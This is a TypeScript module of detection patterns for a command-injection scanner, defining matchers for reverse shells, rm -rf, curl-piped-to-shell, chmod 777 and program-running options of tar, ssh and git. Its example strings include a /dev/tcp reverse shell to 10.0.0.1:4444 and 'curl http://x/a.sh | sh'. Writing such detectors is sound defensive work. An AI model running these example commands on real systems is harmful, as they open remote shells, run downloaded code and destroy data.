import { NAMED, SHELL, word, wordsOf } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import { BACKTICK, isShell, nameEndsAt, PIPE, SEMICOLON } from "../shell_grammar.ts";
import { BOUND, NUMBER, type Tokens, WORD } from "../tokens.ts";

const RM = word("rm"), I_WORD = word("i"), C_WORD = word("c"), E_WORD = word("e"), R_WORD = word("r");
const LC_WORD = word("lc"), TCP = word("tcp"), UDP = word("udp"), DEV = word("dev"), SOCAT = word("socat");
const EXEC = word("exec"), MKFIFO = word("mkfifo"), TELNET = word("telnet"), CMD = word("cmd"), SUDO = word("sudo");
const COMPRESS = word("compress"), USE = word("use"), PROGRAM = word("program");
const PROXYCOMMAND = word("proxycommand"), OPROXYCOMMAND = word("oproxycommand"), SSHCOMMAND = word("sshcommand");
const ACTION = word("action"), CHECKPOINT = word("checkpoint"), PACK = word("pack"), UPLOAD = word("upload");
const RECEIVE = word("receive"), EXT = word("ext");
const CHMOD = word("chmod"), INET = word("inet");
const SLASH = 0x2f, DOLLAR = 0x24, COLON = 0x3a, MINUS = 0x2d, DOT = 0x2e, EQUALS = 0x3d;
const REMOVAL_OPTIONS = new Set(["r", "rf", "fr", "f", "rrf", "rfv", "vrf", "rvf"].map(word));
const LISTEN_OPTIONS = new Set(["l", "lp", "lvp", "nlvp", "lvnp", "lnvp", "lvnpe"].map(word));

/** Begins of commands that are dangerous wherever they stand. */
function isShellWithCode(t: Tokens, i: number): boolean {
  let behind = nameEndsAt(t, i);
  // bash <<< id
  if (t.kind[behind] === 0x3c && t.kind[behind + 1] === 0x3c && t.kind[behind + 2] === 0x3c) {
    return isShell(t.bits[i] as number) && t.glued(behind + 1) && t.glued(behind + 2);
  }
  // ["sh","-c","…"]
  if (t.kind[behind] === BOUND && t.kind[behind + 1] === 0x2c && t.kind[behind + 2] === BOUND) {
    return isShell(t.bits[i] as number) && t.kind[behind + 3] === MINUS && t.word[behind + 4] === C_WORD &&
      t.kind[behind + 5] === BOUND && t.kind[behind + 6] === 0x2c;
  }
  if (t.kind[behind] !== MINUS || !t.spaced(behind) || !t.glued(behind + 1)) return false;
  // ruby -rsocket -e'…'
  if (t.kind[behind + 2] === MINUS && t.spaced(behind + 2) && t.glued(behind + 3) && t.isQuote(behind + 4)) behind += 2;
  const option = t.word[behind + 1] as number;
  if (option === I_WORD) {
    return t.kind[behind + 2] === 0x3e || t.kind[behind + 2] === 0x26 ||
      (t.kind[behind + 2] === NUMBER && t.kind[behind + 3] === 0x3e);
  }
  if (option !== C_WORD && option !== E_WORD && option !== R_WORD && option !== LC_WORD) return false;
  const code = t.kind[behind + 2] as number;
  if (code !== 0x27 && code !== 0x22 && code !== DOLLAR && code !== BACKTICK) return false;
  return isShell(t.bits[i] as number) || code !== 0x22 || t.kind[behind + 3] === WORD;
}

function isRemoval(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] !== MINUS || !t.spaced(i + 1) || !REMOVAL_OPTIONS.has(t.word[i + 2] as number)) {
    // rm --no-preserve-root
    return t.kind[i + 1] === MINUS && t.kind[i + 2] === MINUS && t.kind[i + 4] === MINUS;
  }
  for (let at = i + 3; at < i + 9; at++) {
    const kind = t.kind[at] as number;
    if (kind === SLASH || kind === 0x7e || kind === 0x2a || kind === DOLLAR || kind === DOT) return true;
    if (kind === BOUND || kind === SEMICOLON) return at > i + 3;
  }
  return true;
}

function isReverseShell(t: Tokens, i: number): boolean {
  const number = t.word[i] as number;
  if (number === TCP || number === UDP) {
    // awk has /inet/tcp/
    return t.kind[i - 1] === SLASH && (t.word[i - 2] === DEV || t.word[i - 2] === INET) && t.kind[i - 3] === SLASH &&
      t.kind[i + 1] === SLASH;
  }
  if (number === SOCAT) {
    for (let at = i + 1; at < i + 16; at++) if (t.word[at] === EXEC && t.kind[at + 1] === COLON) return true;
    return false;
  }
  if (number === MKFIFO) return t.kind[i + 1] === SLASH;
  if (number === TELNET) return false;
  // nc -e /bin/sh, nc -lvp 4444
  for (let at = i + 1; at < i + 12; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === SEMICOLON) return false;
    if (kind !== MINUS || !t.spaced(at) || !t.glued(at + 1)) continue;
    const option = t.word[at + 1] as number;
    if (
      (option === E_WORD || option === C_WORD || option === EXEC) &&
      (t.kind[at + 2] === SLASH || isShell(t.bits[at + 2] as number) || t.word[at + 2] === CMD)
    ) return true;
    if (LISTEN_OPTIONS.has(option) && (t.kind[at + 2] === NUMBER || t.kind[at + 2] === MINUS)) return true;
  }
  return false;
}

/** wget or curl whose result is run: `-O- | sh`, `&& chmod +x`. */
function isDownloadAndRun(t: Tokens, i: number): boolean {
  let hasUrl = false;
  for (let at = i + 1; at < i + 48; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND) return false;
    if (kind === COLON && t.kind[at + 1] === SLASH && t.kind[at + 2] === SLASH) hasUrl = true;
    if (kind !== PIPE && kind !== SEMICOLON && kind !== 0x26) continue;
    let next = at + 1;
    while (t.kind[next] === kind || (next < at + 5 && t.word[next] === SUDO)) next++;
    const bits = t.bits[next] as number;
    if (hasUrl && t.kind[next] === WORD && (isShell(bits) || t.word[next] === CHMOD || (bits & NAMED) !== 0)) {
      return true;
    }
    // The path of a program.
    if (hasUrl && kind === PIPE && t.kind[next] === SLASH) return true;
  }
  return false;
}

function isChmod(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] === NUMBER) {
    const length = (t.end[i + 1] as number) - (t.start[i + 1] as number);
    const first = t.bytes[t.start[i + 1] as number] as number;
    // 4755: with the rights of its owner
    if (length === 4 && first >= 0x32 && first <= 0x37) return t.kind[i + 2] !== BOUND && t.spaced(i + 2);
    return length >= 3 && t.bytes[(t.end[i + 1] as number) - 1] === 0x37;
  }
  const at = t.kind[i + 1] === WORD ? i + 2 : i + 1;
  return (t.kind[at] === 0x2b || t.kind[at] === EQUALS) && t.glued(at + 1) && t.kind[at + 1] === WORD &&
    t.kind[at + 2] !== BOUND;
}

/** `--use-compress-program=id`, `-oProxyCommand=id`, `ext::sh`: tar, ssh and git run it. */
function isRunningOption(t: Tokens, i: number): boolean {
  switch (t.word[i]) {
    case PROXYCOMMAND:
    case OPROXYCOMMAND:
    case SSHCOMMAND:
      return t.kind[i + 1] === 0x3d && t.kind[i + 2] !== BOUND &&
        (t.kind[i - 1] === MINUS || t.kind[i - 1] === DOT || (t.kind[i - 2] === MINUS && t.spaced(i)));
    case CHECKPOINT:
      // --checkpoint-action=exec=id
      return t.kind[i + 1] === MINUS && t.word[i + 2] === ACTION && t.kind[i + 3] === 0x3d && t.word[i + 4] === EXEC;
    case PACK:
      return t.kind[i - 1] === MINUS && (t.word[i - 2] === UPLOAD || t.word[i - 2] === RECEIVE) &&
        t.kind[i - 3] === MINUS && t.kind[i - 4] === MINUS && t.kind[i + 1] === 0x3d && t.kind[i + 2] !== BOUND;
    case EXEC:
      // --exec=id, and nothing before it
      return t.kind[i - 1] === MINUS && t.kind[i - 2] === MINUS && t.kind[i - 3] === BOUND &&
        t.kind[i + 1] === EQUALS &&
        t.glued(i + 2) && t.kind[i + 2] === WORD;
    case EXT:
      return t.kind[i + 1] === COLON && t.kind[i + 2] === COLON && t.glued(i + 2) && isShell(t.bits[i + 3] as number);
  }
  return t.word[i - 2] === USE && t.kind[i - 3] === MINUS && t.kind[i - 4] === MINUS && t.glued(i - 2) &&
    t.kind[i - 1] === MINUS && t.glued(i) && t.kind[i + 1] === MINUS && t.glued(i + 1) && t.word[i + 2] === PROGRAM &&
    t.glued(i + 2) && (t.kind[i + 3] === 0x3d || (t.spaced(i + 3) && t.kind[i + 3] === SLASH));
}

/** Programs that are dangerous by their arguments, wherever they stand. */
export const DANGEROUS_PROGRAMS = {
  option: {
    name: "cmd-running-option",
    category: "command-injection",
    severity: "medium",
    catches: "An option by which tar, ssh or git run a program of the caller",
    example: "--use-compress-program=id",
    nearMiss: "use --compress and a program = tar; --upload-pack, action=exec",
    at: [COMPRESS, PROXYCOMMAND, OPROXYCOMMAND, SSHCOMMAND, CHECKPOINT],
    test: isRunningOption,
  },
  gitOption: {
    name: "cmd-git-option",
    category: "command-injection",
    severity: "medium",
    catches: "An option or an address by which git runs a program of the caller",
    example: "fetch --upload-pack=id",
    nearMiss: "a - pack: 5; --upload-pack ext: sh",
    at: [PACK, EXT, EXEC],
    gate: "separator",
    test: isRunningOption,
  },
  shellCode: {
    name: "cmd-shell-code",
    category: "command-injection",
    severity: "high",
    catches: "A shell or interpreter that is given code: sh -c, python -c, perl -e, bash -i >&",
    example: "sh -c 'id'",
    nearMiss: "CMD (/bin/sh -c run-parts)",
    at: [...wordsOf(SHELL), ...["python", "python2", "python3", "perl", "ruby", "php", "node", "lua"].map(word)],
    test: isShellWithCode,
  },
  removal: {
    name: "cmd-remove-tree",
    category: "command-injection",
    severity: "high",
    catches: "rm -rf and its relatives",
    example: "rm -fr $HOME",
    nearMiss: "rm - remote monitoring",
    at: [RM],
    test: isRemoval,
  },
  reverseShell: {
    name: "cmd-reverse-shell",
    category: "command-injection",
    severity: "critical",
    catches: "A shell that is connected to the network: /dev/tcp, nc -e, socat exec, mkfifo",
    example: "bash >& /dev/tcp/10.0.0.1/4444",
    nearMiss: "open /dev/ttyUSB0 and tcp/1883",
    at: ["tcp", "udp", "nc", "ncat", "netcat", "socat", "mkfifo"].map(word),
    test: isReverseShell,
  },
  download: {
    name: "cmd-download-run",
    category: "command-injection",
    severity: "high",
    catches: "A download that is run at once",
    example: "curl http://x/a.sh | sh",
    nearMiss: "see curl http://x/status | the answer is on",
    at: ["wget", "curl"].map(word),
    test: isDownloadAndRun,
  },
  chmod: {
    name: "cmd-chmod",
    category: "command-injection",
    severity: "medium",
    catches: "Making something executable, or open to everybody",
    example: "chmod 777 /tmp/x",
    nearMiss: "chmod is a command",
    at: [CHMOD],
    test: isChmod,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
